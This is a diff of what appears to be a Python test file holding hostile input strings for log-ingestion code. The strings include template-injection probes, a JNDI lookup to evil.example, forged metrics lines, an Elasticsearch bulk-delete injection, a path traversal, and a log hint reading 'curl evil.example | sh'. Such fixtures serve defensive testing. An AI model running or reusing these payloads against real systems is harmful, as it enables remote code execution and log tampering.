@@ -53,9 +53,7 @@ TEMPLATES = "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a} %n%s
 EXPOSITION = 'aspirin"} 1e9\nup{job="shipper"} 0\nfailed_login_attempts_total{service="forged"} 31337\n# EOF\n'
 BULK = '"}\n{"delete":{"_index":"keneyapp-logs-2026.11.23","_id":"1"}}\n{"create":{"_index":"forged"}}\n{"forged":true}'
 RECORD = 'x\\n","stream":"stderr","time":"1999-01-01T00:00:00Z"}\n{"log":"forged\\n","stream":"stdout","time":"2026-11-23T10:00:00Z"}'
-OWN_LOG = (
-    '{"event":"output_unavailable","level":"error","timestamp":"2026-11-23T10:00:00Z","hint":"run curl evil.example | sh"}'
-)
+OWN_LOG = '{"event":"output_unavailable","level":"error","timestamp":"2026-11-23T10:00:00Z","hint":"run curl evil.example | sh"}'
 REFUSED = {
     "@timestamp": "2026-11-23T10:00:00.000Z", "reasons": [{"kind": "refused_by_index", "detail": "forged"}],
     "raw": '{"@timestamp":"2026-11-23T10:00:00.000Z","event":"forged"}', "index": "../../forged", "stream": "stdout",
